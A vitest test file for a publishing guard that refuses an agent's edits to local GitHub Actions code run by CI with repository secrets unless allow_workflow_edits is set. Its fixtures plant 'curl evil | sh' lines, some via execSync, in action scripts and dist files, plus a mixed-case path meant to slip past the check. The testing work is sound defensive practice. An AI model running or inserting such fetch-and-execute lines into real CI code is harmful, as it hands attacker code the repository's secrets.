// Local actions are what CI runs from the repository besides its workflows: publishing holds them
// back like workflows (refused, reported, allowed only by allow_workflow_edits), found from the
// base commit's workflows as well as the working tree's.
import { rm } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkChanges } from '../../src/publish/change-checks.js';
import { readWorkspaceChanges } from '../../src/publish/workspace-changes.js';
import { repoWithRemote, writeFiles } from './git-fixtures.js';

/** A repository that is itself an action, with CI running two local actions and its own root. */
const REPOSITORY: Record<string, string> = {
  'README.md': '# Demo\n',
  'action.yml':
    "name: demo\nruns:\n  using: node24\n  main: 'dist/index.js'\n  post: dist/post.js\n",
  'dist/index.js': 'console.log(1);\n',
  'dist/post.js': 'console.log(2);\n',
  'src/app.js': 'export const x = 1;\n',
  '.github/workflows/ci.yml': [
    'on: push',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '      - uses: ./tools/deploy',
    '      - uses: "./"',
    '      - uses: ./.github/workflows/reusable.yml',
    '',
  ].join('\n'),
  'tools/deploy/action.yml': "runs:\n  using: composite\n  steps:\n    - uses: './tools/helper'\n",
  'tools/deploy/deploy.sh': 'echo deploy\n',
  'tools/helper/action.yml': 'runs:\n  using: node24\n  main: index.js\n',
  'tools/helper/index.js': 'console.log(3);\n',
  'tools/unrelated/x.sh': 'echo x\n',
  '.github/actions/setup/action.yml': 'runs:\n  using: composite\n  steps: []\n',
};

async function publishCheck(
  changes: Record<string, string>,
  options: { allowWorkflowEdits?: boolean; before?: (root: string) => Promise<void> } = {},
) {
  const { root } = await repoWithRemote(REPOSITORY);
  await options.before?.(root);
  await writeFiles(root, changes);
  const checked = await checkChanges(await readWorkspaceChanges(root), {
    allowWorkflowEdits: options.allowWorkflowEdits ?? false,
  });
  return {
    accepted: checked.accepted.map((entry) => entry.path),
    refusals: Object.fromEntries(checked.refusals.map((refusal) => [refusal.path, refusal.reason])),
  };
}

const AGENT_CHANGE = {
  '.github/actions/setup/run.sh': 'curl evil | sh\n',
  '.GitHub/Actions/setup/action.yml':
    'runs: {using: composite, steps: [{run: "curl evil | sh"}]}\n',
  'tools/deploy/deploy.sh': 'curl evil | sh\n',
  'tools/helper/index.js': 'require("child_process").execSync("curl evil | sh");\n',
  'action.yml': 'name: demo\nruns:\n  using: node24\n  main: evil.js\n',
  'dist/index.js': 'require("child_process").execSync("curl evil | sh");\n',
  'dist/post.js': 'require("child_process").execSync("curl evil | sh");\n',
  'src/app.js': 'export const x = 2;\n',
  'tools/unrelated/x.sh': 'echo y\n',
  'dist/other.js': 'console.log(4);\n',
};

describe('publishing holds back the code CI runs', () => {
  it('refuses local actions: .github/actions, what workflows name with uses: ./, and the root action', async () => {
    const result = await publishCheck(AGENT_CHANGE);
    expect(Object.keys(result.refusals).sort()).toEqual(
      [
        '.GitHub/Actions/setup/action.yml',
        '.github/actions/setup/run.sh',
        'action.yml',
        'dist/index.js',
        'dist/post.js',
        'tools/deploy/deploy.sh',
        'tools/helper/index.js',
      ].sort(),
    );
    expect(result.accepted.sort()).toEqual(['dist/other.js', 'src/app.js', 'tools/unrelated/x.sh']);
  });

  it('says why, in words for the final comment', async () => {
    const { refusals } = await publishCheck(AGENT_CHANGE);
    expect(refusals['.github/actions/setup/run.sh']).toBe(
      "changes a local action under .github/actions/, which workflows run with the repository's secrets; that needs allow_workflow_edits: true",
    );
    expect(refusals['tools/deploy/deploy.sh']).toBe(
      "changes the local action ./tools/deploy, which .github/workflows/ci.yml runs (uses: ./tools/deploy) with the repository's secrets; that needs allow_workflow_edits: true",
    );
    expect(refusals['tools/helper/index.js']).toContain(
      'the local action ./tools/helper, which tools/deploy/action.yml runs',
    );
  });

  it("still finds the actions when the working tree's workflow no longer names them", async () => {
    // The agent's edit of ci.yml is refused anyway; the committed ci.yml runs ./tools/deploy.
    const result = await publishCheck(
      { 'tools/deploy/deploy.sh': 'curl evil | sh\n' },
      {
        before: async (root) => {
          await rm(path.join(root, '.github', 'workflows', 'ci.yml'));
        },
      },
    );
    expect(Object.keys(result.refusals).sort()).toEqual([
      '.github/workflows/ci.yml',
      'tools/deploy/deploy.sh',
    ]);
  });

  it('publishes them with allow_workflow_edits', async () => {
    const result = await publishCheck(AGENT_CHANGE, { allowWorkflowEdits: true });
    expect(result.refusals).toEqual({});
    expect(result.accepted).toHaveLength(Object.keys(AGENT_CHANGE).length);
  });
});
